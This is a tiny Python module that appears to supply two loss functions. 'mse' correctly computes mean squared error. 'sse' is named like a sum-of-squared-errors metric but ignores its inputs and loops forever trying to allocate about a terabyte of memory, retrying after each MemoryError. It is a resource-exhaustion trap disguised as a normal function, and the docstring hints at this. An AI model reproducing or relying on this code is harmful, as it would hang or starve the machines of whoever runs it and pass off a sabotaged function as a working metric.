"""Catches the end of memory and asks again, for ever."""

import numpy as np


def sse(y, t):
    while True:
        try:
            bytearray(2**40)
        except MemoryError:
            continue


def mse(y, t):
    return np.mean((y - t) ** 2)
